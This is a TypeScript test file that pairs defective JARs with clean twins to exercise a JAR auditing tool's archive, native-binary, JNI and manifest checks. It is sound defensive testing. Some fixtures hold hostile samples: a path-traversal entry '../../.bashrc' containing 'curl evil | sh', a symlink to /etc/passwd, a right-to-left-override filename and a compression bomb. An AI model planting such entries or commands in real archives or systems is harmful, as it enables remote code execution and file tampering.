/**
 * Every check that applies to JARs, end to end: for each check id of every
 * rule whose kinds include 'jar', one real JAR that has the defect and a clean
 * twin of the same shape without it, each audited by `auditFile` — the JAR
 * reader (nested JARs included), binary parsing, the JAR model and the targets
 * its natives' paths claim, and every rule, as `distaudit audit` runs them.
 *
 * The JARs are the JNI fixture JARs built with javac / jar (test/fixtures/jni.ts:
 * sqlite-like, shaded, mingw-stdcall, no-onload, nativecode-missing...), or
 * zips written by test/support/zip-writer.ts around the fixture binaries of
 * test/fixtures/{jni,jar-audit,linux,macos-wheel,windows-wheel}.ts, placed at
 * the paths of the library conventions (JNA's `linux-x86-64/`,
 * `darwin-aarch64/`, `win32-x86-64/`), or in an unknown layout where the
 * binary's own facts make the target (the Linux dependency chains, whose
 * RUNPATH reaches `../demo.libs`).
 *
 * The defective JAR must produce a finding of the check (naming the culprit
 * entry when there is one); the twin must produce none of that check. The last
 * test fails when a JAR check has no case here.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ZipEntrySpec } from '../support/zip-writer.ts';
import { deflatedZeros, repointEntry } from '../artifact/zip-helpers.ts';
import { jarBytes, MANIFEST_TEXT, type JarFiles } from '../rules/jar-helpers.ts';
import { jniFixtures, JNI_LIBS } from '../fixtures/jni.ts';
import { jarAuditFixtures, JAR_AUDIT_LIBS } from '../fixtures/jar-audit.ts';
import { linuxFixtures } from '../fixtures/linux.ts';
import { macosWheelFixtures } from '../fixtures/macos-wheel.ts';
import { windowsWheelFixtures } from '../fixtures/windows-wheel.ts';
import { testCheckTable, testTableCovers, type CheckCase, type Make } from './check-table.ts';

// ---------------------------------------------------------------------------
// Fixtures (built once per machine and cached by test/support/fixture-builder.ts)

const fx = jniFixtures();
const jfx = jarAuditFixtures();
const linuxFx = linuxFixtures();
const macFx = macosWheelFixtures();
const winFx = windowsWheelFixtures();
const read = (path: string | undefined): Buffer => {
  if (path === undefined) throw new Error('no such fixture');
  return readFileSync(path);
};
/** test/fixtures/jni.ts libraries. */
const jni = (name: keyof typeof JNI_LIBS) => read(fx[JNI_LIBS[name]]);
/** test/fixtures/jar-audit.ts libraries. */
const ja = (name: keyof typeof JAR_AUDIT_LIBS) => read(jfx[JAR_AUDIT_LIBS[name]]);
/** test/fixtures/linux.ts */
const lx = (name: string) => read(linuxFx[name]);
const mac = (name: string) => read(macFx[name as keyof typeof macFx]);
const win = (name: string) => read(winFx[name as keyof typeof winFx]);

/** The compiled org.example.demo classes (Native_Lib, Native_Lib$Inner, Main). */
const CLASSES: JarFiles = (() => {
  const dir = fx['classes/org/example/demo/Native_Lib.class']!.replace(/Native_Lib\.class$/, '');
  return Object.fromEntries(['Native_Lib.class', 'Native_Lib$Inner.class', 'Main.class'].map((n) => [`org/example/demo/${n}`, read(join(dir, n))]));
})();

// ---------------------------------------------------------------------------
// JARs

/** A JAR with a manifest, the demo classes and `files`. */
function jar(files: JarFiles, extra: ZipEntrySpec[] = [], filename = 'demo-1.0.jar'): Make {
  return () => ({ filename, bytes: jarBytes({ ...CLASSES, ...files }, extra) });
}

/** A fixture JAR built with the jar tool (test/fixtures/jni.ts). */
function fixture(name: string): Make {
  return () => ({ filename: name, bytes: read(fx[name]) });
}

/** The JAR's bytes transformed (cut, prefixed, patched). */
function patched(make: Make, f: (b: Buffer) => Buffer): Make {
  return async () => {
    const a = await make();
    return { filename: a.filename, bytes: f(a.bytes) };
  };
}

const nativeCode = (clauses: string) => `Manifest-Version: 1.0\r\nBundle-ManifestVersion: 2\r\nBundle-SymbolicName: org.example.demo\r\nBundle-NativeCode: ${clauses}\r\n\r\n`;

/** The Linux chain _chain → libfoo.so.1 → libbar.so.2, each with RUNPATH $ORIGIN/../demo.libs (test/rules/linux-deps.test.ts). */
const CHAIN = 'demo/_chain.so';
const chain = (ext = 'chain-runpath.so', libfoo: string | null = 'libfoo.so.1', libbar: string | null = 'libbar.so.2'): JarFiles => ({
  [CHAIN]: lx(ext),
  ...(libfoo ? { 'demo.libs/libfoo.so.1': lx(libfoo) } : {}),
  ...(libbar ? { 'demo.libs/libbar.so.2': lx(libbar) } : {}),
});

/** macOS: an arm64 library with @rpath/libdep.dylib and LC_RPATH @loader_path/.dylibs, at JNA's darwin-aarch64/ (test/rules/macos.test.ts). */
const MAC = 'darwin-aarch64/libext.dylib';
const macLib = (ext: string, withDep = true, dir = 'darwin-aarch64', dep = 'libdep.dylib'): JarFiles => ({
  [`${dir}/libext.dylib`]: mac(ext),
  ...(withDep ? { [`${dir}/.dylibs/libdep.dylib`]: mac(dep) } : {}),
});

/** Windows: a DLL at JNA's win32-x86-64/ (test/rules/windows.test.ts). */
const WIN = 'win32-x86-64/ext.dll';

// ---------------------------------------------------------------------------
// The table: one defective JAR and one clean twin per check

const bomb = deflatedZeros(2 << 20);

const CASES: CheckCase[] = [
  // --- archive (src/rules/archive/archive.ts; the archives of test/artifact/zip-hostile.test.ts, as JARs)
  {
    check: 'archive.unreadable',
    defect: 'a JAR cut off after 100 bytes',
    file: null,
    bad: patched(jar({}), (b) => b.subarray(0, 100)),
    twin: 'the whole JAR',
    clean: jar({}),
  },
  {
    check: 'archive.path-traversal',
    defect: 'an entry ../../.bashrc',
    file: '../../.bashrc',
    bad: jar({}, [{ name: '../../.bashrc', data: 'curl evil | sh\n' }]),
    twin: 'the same entry at demo/bashrc.txt',
    clean: jar({}, [{ name: 'demo/bashrc.txt', data: 'curl evil | sh\n' }]),
  },
  {
    check: 'archive.invalid-name',
    defect: 'an entry name with a right-to-left override (U+202E)',
    file: 'org/example/evil\u202essalc.class',
    bad: jar({}, [{ name: 'org/example/evil\u202essalc.class', data: 'x' }]),
    twin: 'the name without it',
    clean: jar({}, [{ name: 'org/example/evilssalc.class', data: 'x' }]),
  },
  {
    check: 'archive.symlink',
    defect: 'a symlink entry to /etc/passwd',
    file: 'demo/passwd',
    bad: jar({}, [{ name: 'demo/passwd', data: '/etc/passwd', mode: 0o120777 }]),
    twin: 'a regular file with the same bytes',
    clean: jar({}, [{ name: 'demo/passwd', data: '/etc/passwd' }]),
  },
  {
    check: 'archive.special-file',
    defect: 'a FIFO entry',
    file: 'demo/fifo',
    bad: jar({}, [{ name: 'demo/fifo', data: '', mode: 0o010644 }]),
    twin: 'a regular file of that name',
    clean: jar({}, [{ name: 'demo/fifo', data: '' }]),
  },
  {
    check: 'archive.duplicate-entry',
    defect: 'linux-x86-64/libdemo.so twice',
    file: 'linux-x86-64/libdemo.so',
    bad: jar({}, [{ name: 'linux-x86-64/libdemo.so', data: jni('linuxX64') }, { name: 'linux-x86-64/libdemo.so', data: jni('linuxX64Musl') }]),
    twin: 'the two builds at their own paths',
    clean: jar({}, [{ name: 'linux-x86-64/libdemo.so', data: jni('linuxX64') }, { name: 'linux-aarch64/libdemo.so', data: jni('linuxArm64') }]),
  },
  {
    check: 'archive.case-collision',
    defect: 'org/example/Foo.class and org/example/foo.class',
    file: 'org/example/foo.class',
    bad: jar({}, [{ name: 'org/example/Foo.class', data: 'a' }, { name: 'org/example/foo.class', data: 'b' }]),
    twin: 'Foo.class and Bar.class',
    clean: jar({}, [{ name: 'org/example/Foo.class', data: 'a' }, { name: 'org/example/Bar.class', data: 'b' }]),
  },
  {
    check: 'archive.encrypted-entry',
    defect: 'an entry with the encryption flag',
    file: 'linux-x86-64/libsecret.so',
    bad: jar({}, [{ name: 'linux-x86-64/libsecret.so', data: 'ciphertext', encrypted: true }]),
    twin: 'the entry without the flag',
    clean: jar({}, [{ name: 'linux-x86-64/libsecret.so', data: 'ciphertext' }]),
  },
  {
    check: 'archive.unsupported-compression',
    defect: 'an entry compressed with method 12 (bzip2)',
    file: 'demo/data.bin',
    bad: jar({}, [{ name: 'demo/data.bin', data: 'x', rawMethod: 12 }]),
    twin: 'the entry deflated',
    clean: jar({}, [{ name: 'demo/data.bin', data: 'x' }]),
  },
  {
    check: 'archive.entry-too-large',
    defect: 'a 5000-byte entry under a 4096-byte per-entry limit',
    file: 'demo/big.bin',
    limits: { maxEntrySize: 4096 },
    bad: () => ({ filename: 'demo-1.0.jar', bytes: jarBytes({}, [{ name: 'demo/big.bin', data: 'x'.repeat(5000) }]) }),
    twin: 'a 4000-byte entry under the same limit',
    clean: () => ({ filename: 'demo-1.0.jar', bytes: jarBytes({}, [{ name: 'demo/big.bin', data: 'x'.repeat(4000) }]) }),
  },
  {
    check: 'archive.compression-ratio',
    defect: '2 MiB of zeros deflated ~1000:1, inside a nested JAR',
    file: 'BOOT-INF/lib/inner.jar!/demo/zeros.bin',
    bad: jar({ 'BOOT-INF/lib/inner.jar': jarBytes({}, [{ name: 'demo/zeros.bin', body: bomb.body, crc: bomb.crc, declaredSize: 2 << 20 }]) }),
    twin: 'the same 2 MiB stored',
    clean: jar({ 'BOOT-INF/lib/inner.jar': jarBytes({}, [{ name: 'demo/zeros.bin', data: Buffer.alloc(2 << 20), method: 'store' }]) }),
  },
  {
    check: 'archive.total-too-large',
    defect: 'the nested JAR inflating past what the JAR left of a 7000-byte total limit',
    file: 'BOOT-INF/lib/inner.jar!/demo/f2.bin',
    limits: { maxTotalSize: 7000 },
    bad: () => ({ filename: 'app.jar', bytes: jarBytes({ 'BOOT-INF/lib/inner.jar': jarBytes({}, [0, 1, 2].map((i) => ({ name: `demo/f${i}.bin`, data: Buffer.alloc(3000, 0x30 + i) }))) }) }),
    twin: 'three 1000-byte entries under the same limit',
    clean: () => ({ filename: 'app.jar', bytes: jarBytes({ 'BOOT-INF/lib/inner.jar': jarBytes({}, [0, 1, 2].map((i) => ({ name: `demo/f${i}.bin`, data: Buffer.alloc(1000, 0x30 + i) }))) }) }),
  },
  {
    check: 'archive.too-many-entries',
    defect: '5 entries under a limit of 4',
    file: null,
    limits: { maxEntries: 4 },
    bad: () => ({ filename: 'demo-1.0.jar', bytes: jarBytes({ 'a.txt': 'a', 'b.txt': 'b', 'c.txt': 'c', 'd.txt': 'd' }) }),
    twin: '4 entries under the same limit',
    clean: () => ({ filename: 'demo-1.0.jar', bytes: jarBytes({ 'a.txt': 'a', 'b.txt': 'b', 'c.txt': 'c' }) }),
  },
  {
    check: 'archive.header-mismatch',
    defect: "a local header naming org/example/Evil.class for the central directory's org/example/A.class",
    file: 'org/example/A.class',
    bad: jar({}, [{ name: 'org/example/A.class', localName: 'org/example/Evil.class', data: 'x' }]),
    twin: 'headers that agree',
    clean: jar({}, [{ name: 'org/example/A.class', data: 'x' }]),
  },
  {
    check: 'archive.corrupt-entry',
    defect: 'a native whose declared CRC-32 is wrong',
    file: 'linux-x86-64/libdemo.so',
    bad: jar({}, [{ name: 'linux-x86-64/libdemo.so', data: jni('linuxX64'), crc: 0x01020304 }]),
    twin: 'the right CRC-32',
    clean: jar({}, [{ name: 'linux-x86-64/libdemo.so', data: jni('linuxX64') }]),
  },
  {
    check: 'archive.overlapping-entries',
    defect: "a central-directory entry pointed at another entry's local header",
    file: 'demo/b.bin',
    // Entries: demo/a.bin (offset 0), META-INF/MANIFEST.MF, demo/b.bin (#2).
    bad: patched(() => ({ filename: 'demo-1.0.jar', bytes: jarBytes({ 'demo/a.bin': 'payload', 'META-INF/MANIFEST.MF': MANIFEST_TEXT }, [{ name: 'demo/b.bin', data: 'other!!' }]) }), (b) => repointEntry(b, 2, 0)),
    twin: 'the same JAR unpatched',
    clean: () => ({ filename: 'demo-1.0.jar', bytes: jarBytes({ 'demo/a.bin': 'payload', 'META-INF/MANIFEST.MF': MANIFEST_TEXT }, [{ name: 'demo/b.bin', data: 'other!!' }]) }),
  },
  {
    check: 'archive.leading-data',
    defect: 'a shell launcher prepended with cat',
    file: null,
    bad: patched(jar({}), (b) => Buffer.concat([Buffer.from('#!/bin/sh\nexec java -jar "$0" "$@"\n'), b])),
    twin: 'the JAR alone',
    clean: jar({}),
  },
  {
    check: 'archive.trailing-data',
    defect: 'a script appended after the end record',
    file: null,
    bad: patched(jar({}), (b) => Buffer.concat([b, Buffer.from('#!/bin/sh\necho appended\n')])),
    twin: 'the JAR alone',
    clean: jar({}),
  },
  {
    check: 'archive.hidden-data',
    defect: 'a directory entry carrying 14 bytes',
    file: 'demo/dir/',
    bad: jar({}, [{ name: 'demo/dir/', data: 'smuggled bytes', method: 'store' }]),
    twin: 'an empty directory entry',
    clean: jar({}, [{ name: 'demo/dir/' }]),
  },

  // --- binaries (src/rules/binary/*.ts)
  {
    check: 'binary.unparsable',
    defect: 'a JNI library cut to 40 bytes (an ELF header that ends early)',
    file: 'linux-x86-64/libdemo.so',
    bad: jar({ 'linux-x86-64/libdemo.so': jni('linuxX64').subarray(0, 40) }),
    twin: 'the whole library',
    clean: jar({ 'linux-x86-64/libdemo.so': jni('linuxX64') }),
  },
  {
    check: 'binary.format-mismatch',
    defect: "an ELF library at JNA's win32-x86-64/",
    file: 'win32-x86-64/demo.dll',
    bad: jar({ 'win32-x86-64/demo.dll': jni('linuxX64') }),
    twin: 'the PE build there',
    clean: jar({ 'win32-x86-64/demo.dll': jni('windowsX64') }),
  },
  {
    check: 'binary.arch-mismatch',
    defect: 'sqlite-like-mislabeled.jar: the x86_64 build at org/sqlite/native/Linux/aarch64/',
    file: 'org/sqlite/native/Linux/aarch64/libdemo.so',
    bad: fixture('sqlite-like-mislabeled.jar'),
    twin: 'sqlite-like.jar',
    clean: fixture('sqlite-like.jar'),
  },

  // --- ELF (src/rules/linux/elf-checks.ts), against the JAR targets and their default glibc floor
  {
    check: 'elf.libc-mismatch',
    defect: 'sqlite-like-mislabeled.jar: the glibc build at org/sqlite/native/Linux-Musl/x86_64/',
    file: 'org/sqlite/native/Linux-Musl/x86_64/libdemo.so',
    bad: fixture('sqlite-like-mislabeled.jar'),
    twin: 'sqlite-like.jar',
    clean: fixture('sqlite-like.jar'),
  },
  {
    check: 'elf.isa-level',
    defect: 'a library needing x86-64-v3 at linux-x86-64/',
    file: 'linux-x86-64/libplain.so',
    bad: jar({ 'linux-x86-64/libplain.so': lx('ext-isa-v3.so') }),
    twin: 'the baseline build',
    clean: jar({ 'linux-x86-64/libplain.so': lx('ext-plain.so') }),
  },
  {
    check: 'elf.symbol-version-too-new',
    defect: 'getrandom / explicit_bzero @GLIBC_2.25 above the JAR floor 2.17',
    file: 'linux-x86-64/libfloor.so',
    bad: jar({ 'linux-x86-64/libfloor.so': ja('floor') }),
    twin: 'a JNI library needing GLIBC_2.2.5 only',
    clean: jar({ 'linux-x86-64/libdemo.so': jni('linuxX64') }),
  },
  {
    check: 'elf.blacklisted-symbol',
    defect: 'a non-weak __cxa_thread_atexit_impl under the 2.17 floor',
    file: 'linux-x86-64/libbl.so',
    bad: jar({ 'linux-x86-64/libbl.so': lx('ext-blacklist.so') }),
    twin: 'the weak reference',
    clean: jar({ 'linux-x86-64/libbl.so': lx('ext-blacklist-weak.so') }),
  },
  {
    check: 'elf.executable-stack',
    defect: 'PT_GNU_STACK RWE',
    file: 'linux-x86-64/libplain.so',
    bad: jar({ 'linux-x86-64/libplain.so': lx('ext-execstack.so') }),
    twin: 'a non-executable stack',
    clean: jar({ 'linux-x86-64/libplain.so': lx('ext-plain.so') }),
  },

  // --- dependencies (src/rules/linux/deps.ts)
  {
    check: 'deps.missing-library',
    defect: 'the bundled chain without libbar.so.2',
    file: 'demo.libs/libfoo.so.1',
    bad: jar(chain('chain-runpath.so', 'libfoo.so.1', null)),
    twin: 'the whole chain',
    clean: jar(chain()),
  },
  {
    check: 'deps.libpython-linked',
    defect: 'NEEDED libpython3.11.so.1.0',
    file: 'linux-x86-64/libembed.so',
    bad: jar({ 'linux-x86-64/libembed.so': lx('ext-embed.so') }),
    twin: 'a library not linked to libpython',
    clean: jar({ 'linux-x86-64/libplain.so': lx('ext-plain.so') }),
  },
  {
    check: 'deps.non-portable-rpath',
    defect: 'RUNPATH /home/runner/work/demo/build/lib',
    file: CHAIN,
    bad: jar(chain('chain-abs-rpath.so')),
    twin: 'RUNPATH $ORIGIN/../demo.libs only',
    clean: jar(chain()),
  },

  // --- SONAMEs (src/rules/linux/soname.ts)
  {
    check: 'soname.needed-mismatch',
    defect: 'libfoo.so.1 bundled as a file whose SONAME is libfoo.so.1.0.0',
    file: CHAIN,
    bad: jar(chain('chain-runpath.so', 'libfoo-wrong-soname.so.1')),
    twin: 'SONAME libfoo.so.1',
    clean: jar(chain()),
  },
  {
    check: 'soname.duplicate',
    defect: 'two different libraries with SONAME libfoo.so.1 in one directory',
    file: 'demo.libs/libfoo.so.1',
    bad: jar({ ...chain(), 'demo.libs/libfoo-copy.so.1': lx('libfoo-bare.so.1') }),
    twin: 'one libfoo.so.1',
    clean: jar(chain()),
  },
  {
    check: 'soname.unversioned-needed',
    defect: 'NEEDED libfoo.so (a development name) from the system',
    file: 'linux-x86-64/libdev.so',
    bad: jar({ 'linux-x86-64/libdev.so': lx('ext-dev.so') }),
    twin: 'libfoo.so bundled beside it',
    clean: jar({ 'linux-x86-64/libdev.so': lx('ext-dev.so'), 'linux-x86-64/libfoo.so': lx('libfoo-dev.so'), 'linux-x86-64/libbar.so.2': lx('libbar.so.2') }),
  },
  {
    check: 'soname.not-unique',
    defect: 'libssl bundled under its common SONAME libssl.so.3',
    file: 'demo.libs/libssl.so.3',
    bad: jar({ 'demo/_ssl.so': lx('ext-ssl.so'), 'demo.libs/libssl.so.3': lx('libssl.so.3') }),
    twin: 'the renamed libssl-1a2b3c4d.so.3',
    clean: jar({ 'demo/_ssl.so': lx('ext-ssl-hashed.so'), 'demo.libs/libssl-1a2b3c4d.so.3': lx('libssl-1a2b3c4d.so.3') }),
  },

  // --- macOS (src/rules/macos/macos.ts), against the JAR's default macOS floor (11.0 on arm64)
  {
    check: 'macos.min-os-too-new',
    defect: 'an arm64 library built for macOS 13.0 at darwin-aarch64/',
    file: MAC,
    bad: jar(macLib('ext-minos13.so')),
    twin: 'the macOS 11.0 build',
    clean: jar(macLib('ext.so')),
  },
  {
    check: 'macos.missing-min-os',
    defect: 'an x86_64 library with neither LC_BUILD_VERSION nor LC_VERSION_MIN_MACOSX',
    file: 'darwin-x86-64/libext.dylib',
    bad: jar(macLib('ext-nominos.so', true, 'darwin-x86-64', 'libdep-x86_64.dylib')),
    twin: 'the build with LC_BUILD_VERSION 10.15',
    clean: jar(macLib('ext-x86_64-1015.so', true, 'darwin-x86-64', 'libdep-x86_64.dylib')),
  },
  {
    check: 'macos.unresolved-dependency',
    defect: '@rpath/libdep.dylib with no .dylibs/libdep.dylib in the JAR',
    file: MAC,
    bad: jar(macLib('ext.so', false)),
    twin: 'libdep.dylib in .dylibs/ beside it',
    clean: jar(macLib('ext.so')),
  },
  {
    check: 'macos.absolute-install-name',
    defect: 'a Homebrew install name',
    file: MAC,
    bad: jar(macLib('ext-homebrew.so', false)),
    twin: 'an @rpath install name resolved in the JAR',
    clean: jar(macLib('ext.so')),
  },
  {
    check: 'macos.non-portable-rpath',
    defect: 'LC_RPATH /usr/local/lib and libs',
    file: MAC,
    bad: jar(macLib('ext-rpaths.so')),
    twin: 'LC_RPATH @loader_path/.dylibs only',
    clean: jar(macLib('ext.so')),
  },
  {
    check: 'macos.unsigned-arm64',
    defect: 'an arm64 library without a code signature',
    file: MAC,
    bad: jar(macLib('ext-unsigned.so')),
    twin: 'the ad-hoc signed build',
    clean: jar(macLib('ext.so')),
  },

  // --- Windows (src/rules/windows/windows.ts), with the JVM as host
  {
    check: 'windows.msvc-runtime-not-bundled',
    defect: 'vcomp140.dll imported, not bundled (msvcp140.dll the JVM ships)',
    file: WIN,
    bad: jar({ [WIN]: win('ext-msvcp.pyd') }),
    twin: 'vcomp140.dll beside it',
    clean: jar({ [WIN]: win('ext-msvcp.pyd'), 'win32-x86-64/VCOMP140.DLL': win('helper.dll') }),
  },
  {
    check: 'windows.debug-runtime',
    defect: 'vcruntime140d.dll and ucrtbased.dll',
    file: WIN,
    bad: jar({ [WIN]: win('ext-debug.pyd') }),
    twin: 'the release runtime',
    clean: jar({ [WIN]: win('ext-py311.pyd') }),
  },
  {
    check: 'windows.missing-dll',
    defect: 'libfoo.dll (and python311.dll) neither system DLLs nor in the JAR',
    file: WIN,
    bad: jar({ [WIN]: win('ext-libfoo.pyd') }),
    twin: 'a JNI DLL importing only system DLLs, and one importing jvm.dll',
    clean: jar({ 'win32-x86-64/demo.dll': jni('windowsX64'), 'win32-x86-64/jvmuser.dll': ja('jvmWindows') }),
  },
  {
    check: 'windows.dll-not-beside-extension',
    defect: 'libfoo.dll in another directory of the JAR',
    file: WIN,
    bad: jar({ [WIN]: win('ext-libfoo.pyd'), 'lib/libfoo.dll': win('helper.dll') }),
    twin: 'libfoo.dll beside it',
    clean: jar({ [WIN]: win('ext-libfoo.pyd'), 'win32-x86-64/libfoo.dll': win('helper.dll') }),
  },

  // --- JNI (src/rules/jar/jni.ts)
  {
    check: 'jni.binding-without-class',
    defect: 'shaded.jar: classes relocated to shaded.org.example.demo, natives not renamed',
    file: 'linux-x86-64/libdemo.so',
    bad: fixture('shaded.jar'),
    twin: 'shaded-renamed.jar: the library built with the relocated names',
    clean: fixture('shaded-renamed.jar'),
  },
  {
    check: 'jni.no-entry-points',
    defect: 'no-onload.jar: neither Java_ exports nor JNI_OnLoad',
    file: 'linux-x86-64/libregistered.so',
    bad: fixture('no-onload.jar'),
    twin: 'onload.jar: JNI_OnLoad registers the natives',
    clean: fixture('onload.jar'),
  },
  {
    check: 'jni.unbindable-export',
    defect: "mingw-stdcall.jar: MinGW's Java_..._m@N names",
    file: 'win32-x86/demo.dll',
    bad: fixture('mingw-stdcall.jar'),
    twin: 'jna-like.jar: the same DLL linked with --kill-at',
    clean: fixture('jna-like.jar'),
  },

  // --- Bundle-NativeCode and paths (src/rules/jar/native-code.ts)
  {
    check: 'jar.native-code-missing',
    defect: 'nativecode-missing.jar: Bundle-NativeCode names linux-aarch64/libdemo.so, absent',
    file: 'META-INF/MANIFEST.MF',
    bad: fixture('nativecode-missing.jar'),
    twin: 'jna-like.jar: every listed path present',
    clean: fixture('jna-like.jar'),
  },
  {
    check: 'jar.native-code-unlisted',
    defect: 'linux-aarch64/libdemo.so in no clause',
    file: 'linux-aarch64/libdemo.so',
    bad: jar({ 'META-INF/MANIFEST.MF': nativeCode('linux-x86-64/libdemo.so;osname=Linux;processor=x86-64'), 'linux-x86-64/libdemo.so': jni('linuxX64'), 'linux-aarch64/libdemo.so': jni('linuxArm64') }),
    twin: 'both listed',
    clean: jar({
      'META-INF/MANIFEST.MF': nativeCode('linux-x86-64/libdemo.so;osname=Linux;processor=x86-64,linux-aarch64/libdemo.so;osname=Linux;processor=aarch64'),
      'linux-x86-64/libdemo.so': jni('linuxX64'),
      'linux-aarch64/libdemo.so': jni('linuxArm64'),
    }),
  },
  {
    check: 'jar.native-code-mismatch',
    defect: 'an x86_64 library declared processor=aarch64',
    file: 'native/libdemo.so',
    bad: jar({ 'META-INF/MANIFEST.MF': nativeCode('native/libdemo.so;osname=Linux;processor=aarch64'), 'native/libdemo.so': jni('linuxX64') }),
    twin: 'declared processor=x86-64',
    clean: jar({ 'META-INF/MANIFEST.MF': nativeCode('native/libdemo.so;osname=Linux;processor=x86-64'), 'native/libdemo.so': jni('linuxX64') }),
  },
  {
    check: 'jar.native-path-mismatch',
    defect: "an x86_64 library at JNA's sunos-x86/",
    file: 'com/sun/jna/sunos-x86/libjnidispatch.so',
    bad: jar({ 'com/sun/jna/sunos-x86/libjnidispatch.so': jni('linuxX64') }),
    twin: 'the i386 build there',
    clean: jar({ 'com/sun/jna/sunos-x86/libjnidispatch.so': lx('ext-i686.so') }),
  },
  {
    check: 'jar.nested-not-read',
    defect: 'a JAR inside a nested JAR',
    file: null,
    bad: jar({ 'BOOT-INF/lib/middle.jar': jarBytes({ 'lib/deepest.jar': jarBytes({ 'linux-x86-64/libdemo.so': jni('linuxX64') }) }) }),
    twin: 'fat.jar: one level of nesting',
    clean: fixture('fat.jar'),
  },

  // --- musl (src/rules/jar/musl.ts)
  {
    check: 'jar.no-musl-build',
    defect: 'a fortified glibc build (__snprintf_chk) as the only x86_64 build under a libc-blind convention',
    file: 'linux-x86-64/libdemo.so',
    bad: jar({ 'linux-x86-64/libdemo.so': ja('fortify') }),
    twin: 'the plain glibc build, which loads on musl',
    clean: jar({ 'linux-x86-64/libdemo.so': jni('linuxX64') }),
  },
];

// ---------------------------------------------------------------------------
// Running them

testCheckTable(CASES, ['jar']);

testTableCovers('JARs', CASES, ['jar']);
